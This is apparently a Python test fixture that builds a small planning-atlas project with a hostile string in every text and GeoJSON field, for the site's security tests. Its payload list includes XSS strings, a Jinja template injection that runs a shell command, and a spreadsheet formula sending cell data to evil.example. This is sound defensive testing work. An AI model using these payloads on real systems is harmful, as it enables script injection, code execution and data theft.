"""A small project whose every text field holds a hostile string, for the security tests.

`make_project(root, payload)` writes one plan (text with the payload in its headings and
paragraphs), two districts, a city and a district cluster, a park with a schematic shape, a place
with a point, a place known only by district, an indicator, a project, a department and a task.
Every text field of every record type gets the payload, every record cites a paragraph holding
it, and the GeoJSON properties carry it too. Templates, theme and hand-written pages are the real
ones (they are trusted); only content and geometry are hostile.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]
PLAN = "hostile-plan"

TEMPLATE_PAYLOAD = "{{ 7*7 }} {% raw %} {{ config }} {# #}"
"""Jinja syntax in every form: evaluated anywhere, it would print 49, the config, or crash."""

SCRIPT_PAYLOADS = [
    '"><img id=pwned src=x onerror="alert(1);window.__pwned=1">',
    "<svg id=pwned onload=alert(1)></svg>",
    "</script><script>alert(1);window.__pwned=1</script>",
    "'\"><b id=pwned data-pwned=1>x</b>",
    "javascript:alert(1)",
    "<a id=pwned href=javascript:alert(1)>点我</a>",
    "&lt;img id=pwned src=x onerror=alert(1)&gt;",
    "{{ lipsum.__globals__.os.popen('touch /tmp/atlas-pwned').read() }}",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
]
"""Strings that create an element with id `pwned`, set `window.__pwned`, or open a dialog if they ever run."""


def _cite(quote: str, para: str = "s1-p1") -> list[dict]:
    return [{"plan": PLAN, "para": para, "quote": quote}]


def texts(payload: str, leading: bool = False) -> dict[str, str]:
    """One distinct, labelled value per field, so a test can tell which field it is looking at.

    The payload follows the label, or with `leading` comes first (a cell that starts with `=`).
    """
    labels = {
        "plan_title": "规划", "plan_short": "简称", "issuer": "发文", "period": "期限", "summary": "摘要",
        "city_cluster": "市集群", "city_alias": "市别称", "focus": "重点", "district_cluster": "区集群",
        "park": "园区", "park_status": "状态", "park_description": "说明", "area": "约30平方公里",
        "point_place": "地点", "district_place": "区级地点", "district_a": "甲区", "district_b": "乙区",
        "district_alias": "甲", "indicator": "指标", "unit": "单位", "group": "类别", "base": "基数",
        "target": "目标", "actual": "实际", "assessment": "评估", "project": "项目", "investment": "投资",
        "project_description": "项目说明", "department": "部门", "department_alias": "部", "task": "任务",
        "heading": "章", "geo_basis": "依据", "geo_district_name": "几何名", "street": "街道",
        "role": "定位", "function": "功能", "pattern": "格局", "project_street": "项目街道", "output": "产出",
        "start": "开工", "completion": "竣工", "stage_text": "进展", "land": "用地1公顷",
    }  # fmt: skip
    return {key: f"{payload}{label}" if leading else f"{label}{payload}" for key, label in labels.items()}


def english_texts(payload: str, leading: bool = False) -> dict[str, str]:
    """The English names of the hostile project (content/english/), each labelled and hostile too."""
    labels = {
        "plan_title": "Plan ", "plan_short": "Short ", "issuer": "Issuer ", "period": "Period ", "summary": "Summary ",
        "city_cluster": "City cluster ", "focus": "Focus ", "district_cluster": "District cluster ", "park": "Park ",
        "street": "Street ", "point_place": "Point ", "district_place": "District place ", "district_a": "District A ",
        "district_b": "District B ", "indicator": "Indicator ", "group": "Group ", "project": "Project ",
        "role": "Role ", "function": "Function ", "pattern": "Pattern ", "department": "Department ",
        "task": "Task ", "park_description": "About park ", "project_description": "About project ",
    }  # fmt: skip
    return {key: f"{payload} {label.strip()}" if leading else f"{label}{payload}" for key, label in labels.items()}


def plan_text(t: dict[str, str]) -> str:
    """Every cited value sits in paragraph s1-p1, so each quote is found verbatim."""
    cited = "；".join(value for key, value in t.items() if key not in ("heading", "geo_basis", "geo_district_name"))
    return (
        f"{t['plan_title']}<br>{t['issuer']}\n{{: #cover }}\n\n"
        f"## 一、{t['heading']} {{#s1}}\n\n"
        f"{cited}\n{{: #s1-p1 }}\n\n"
        f"### （一）{t['heading']}二 {{#s1-1}}\n\n"
        f"第二段：{t['heading']}\n{{: #s1-1-p1 }}\n"
    )


def _geo(features: list[dict]) -> str:
    lines = [json.dumps(f, ensure_ascii=False) for f in features]
    return '{"type":"FeatureCollection","crs_name":"WGS84","features":[\n' + ",\n".join(lines) + "\n]}\n"


def _district_features(t: dict[str, str]) -> list[dict]:
    source = json.loads((ROOT / "geo/districts.geojson").read_text(encoding="utf-8"))
    wanted = {"longgang": t["geo_district_name"], "pingshan": t["geo_district_name"] + "二"}
    features = []
    for feature in source["features"]:
        if feature["id"] in wanted:
            properties = {**feature.get("properties", {}), "name": wanted[feature["id"]], "basis": t["geo_basis"]}
            features.append({**feature, "properties": properties})
    return features


def make_project(root: Path, payload: str, leading: bool = False) -> Path:
    """Write the hostile project under `root` and return it."""
    t = texts(payload, leading)
    root.mkdir(parents=True, exist_ok=True)
    for part in ("templates", "site_src"):
        shutil.copytree(ROOT / part, root / part, dirs_exist_ok=True)
    shutil.copy2(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    content = root / "content"

    def dump(relative: str, data) -> None:
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")

    (content / "sources").mkdir(parents=True)
    (content / "sources" / "hostile.txt").write_text(plan_text(t), encoding="utf-8")
    (content / "plans" / PLAN).mkdir(parents=True)
    (content / "plans" / PLAN / "text.md").write_text(plan_text(t), encoding="utf-8")
    dump(f"plans/{PLAN}/plan.yaml", {
        "id": PLAN, "title": t["plan_title"], "short_title": t["plan_short"], "issuer": t["issuer"], "date": "2024-01",
        "period": t["period"], "status": "正式印发", "source": "hostile.txt", "summary": t["summary"],
        "citations": _cite(t["plan_title"], "cover"),
    })  # fmt: skip
    dump("districts.yaml", [
        {"id": "longgang", "name": t["district_a"], "aliases": [t["district_alias"]], "geometry": "longgang", "citations": _cite(t["district_a"])},
        {"id": "pingshan", "name": t["district_b"], "geometry": "pingshan", "citations": _cite(t["district_b"])},
    ])  # fmt: skip
    dump("clusters/clusters.yaml", [
        {"id": "city-x", "name": t["city_cluster"], "aliases": [t["city_alias"]], "level": "city-cluster", "plan": PLAN,
         "districts": ["longgang", "pingshan"], "focus": t["focus"],
         "citations": _cite(t["city_cluster"]) + _cite(t["district_a"])},
        {"id": "district-x", "name": t["district_cluster"], "level": "district-cluster", "plan": PLAN, "district": "longgang",
         "corresponds_to": ["city-x"], "citations": _cite(t["district_cluster"])},
    ])  # fmt: skip
    dump("places/places.yaml", [
        {"id": "park-x", "name": t["park"], "kind": "先进制造业园区", "district": "longgang", "clusters": ["district-x"],
         "area": {"as_written": t["area"], "value": 30, "unit": "平方公里"},
         "geometry": {"ref": "park-x", "precision": "示意范围"}, "status": t["park_status"],
         "description": t["park_description"], "street": t["street"],
         "citations": _cite(t["park"]) + _cite(t["area"]) + _cite(t["street"])},
        {"id": "point-x", "name": t["point_place"], "kind": "园区", "district": "longgang", "clusters": ["city-x"],
         "geometry": {"ref": "point-x", "precision": "近似位置"}, "citations": _cite(t["point_place"])},
        {"id": "district-only-x", "name": t["district_place"], "kind": "其他", "district": "pingshan",
         "citations": _cite(t["district_place"])},
    ])  # fmt: skip
    dump("indicators/indicators.yaml", [
        {"id": "indicator-x", "plan": PLAN, "name": t["indicator"], "unit": t["unit"], "group": t["group"],
         "nature": "预期性", "base": {"value": t["base"], "year": 2020}, "target": {"value": t["target"], "year": 2025},
         "actual": {"value": t["actual"], "year": 2023}, "assessment": t["assessment"], "district": "longgang",
         "clusters": ["city-x"], "citations": _cite(t["indicator"])},
    ])  # fmt: skip
    dump("projects/projects.yaml", [
        {"id": "project-x", "plan": PLAN, "name": t["project"], "district": "longgang", "place": "park-x",
         "clusters": ["district-x"], "investment": t["investment"], "description": t["project_description"],
         "street": t["project_street"], "output": t["output"], "start": t["start"], "completion": t["completion"],
         "stage": "在建", "stage_as_written": t["stage_text"], "land_area": {"as_written": t["land"], "value": 1, "unit": "公顷"},
         "citations": [c for key in ("project", "investment", "project_street", "output", "start", "completion", "stage_text", "land")
                       for c in _cite(t[key])]},
    ])  # fmt: skip
    dump("roles/roles.yaml", [
        {"id": "city-x-longgang", "plan": PLAN, "cluster": "city-x", "district": "longgang", "role": t["role"],
         "function": t["function"], "pattern": t["pattern"],
         "citations": _cite(t["role"]) + _cite(t["function"]) + _cite(t["pattern"])},
    ])  # fmt: skip
    dump("departments/departments.yaml", [
        {"id": "department-x", "name": t["department"], "aliases": [t["department_alias"]], "level": "市级",
         "citations": _cite(t["department"])},
    ])  # fmt: skip
    dump("tasks/tasks.yaml", [
        {"id": "task-x", "plan": PLAN, "title": t["task"], "lead": ["department-x"], "departments": ["department-x"],
         "clusters": ["city-x"], "citations": _cite(t["task"])},
    ])  # fmt: skip

    e = english_texts(payload, leading)
    ed = {"en_source": "editorial"}
    dump("english/plans.yaml", [{"id": PLAN, **ed, "title": e["plan_title"], "short_title": e["plan_short"], "issuer": e["issuer"],
                                 "period": e["period"], "summary": e["summary"]}])  # fmt: skip
    dump("english/districts.yaml", [{"id": "longgang", **ed, "name": e["district_a"]}, {"id": "pingshan", **ed, "name": e["district_b"]}])
    dump("english/clusters.yaml", [{"id": "city-x", **ed, "name": e["city_cluster"], "focus": e["focus"]},
                                   {"id": "district-x", **ed, "name": e["district_cluster"]}])  # fmt: skip
    dump("english/places.yaml", [{"id": "park-x", **ed, "name": e["park"], "street": e["street"], "description": e["park_description"]},
                                 {"id": "point-x", **ed, "name": e["point_place"]}, {"id": "district-only-x", **ed, "name": e["district_place"]}])  # fmt: skip
    dump("english/indicators.yaml", [{"id": "indicator-x", **ed, "name": e["indicator"], "group": e["group"]}])
    dump("english/projects.yaml", [{"id": "project-x", **ed, "name": e["project"], "description": e["project_description"]}])
    dump("english/roles.yaml", [{"id": "city-x-longgang", **ed, "role": e["role"], "function": e["function"], "pattern": e["pattern"]}])
    dump("english/departments.yaml", [{"id": "department-x", **ed, "name": e["department"]}])
    dump("english/tasks.yaml", [{"id": "task-x", **ed, "title": e["task"]}])
    shutil.copy2(ROOT / "content/english/labels.yaml", content / "english/labels.yaml")  # trusted vocabulary labels

    geo = root / "geo"
    (geo / "places").mkdir(parents=True)
    (geo / "districts.geojson").write_text(_geo(_district_features(t)), encoding="utf-8")
    real_parks = json.loads((ROOT / "geo/places/longgang.geojson").read_text(encoding="utf-8"))["features"]
    park = next(f["geometry"] for f in real_parks if f["id"] == "longgang-west")  # known to lie inside 龙岗
    (geo / "places" / "hostile.geojson").write_text(_geo([
        {"type": "Feature", "id": "park-x", "properties": {"id": "park-x", "name": t["park"], "basis": t["geo_basis"]},
         "geometry": park},
        {"type": "Feature", "id": "point-x", "properties": {"id": "point-x", "name": t["point_place"], "basis": t["geo_basis"]},
         "geometry": {"type": "Point", "coordinates": [114.2, 22.7]}},
    ]), encoding="utf-8")  # fmt: skip
    return root
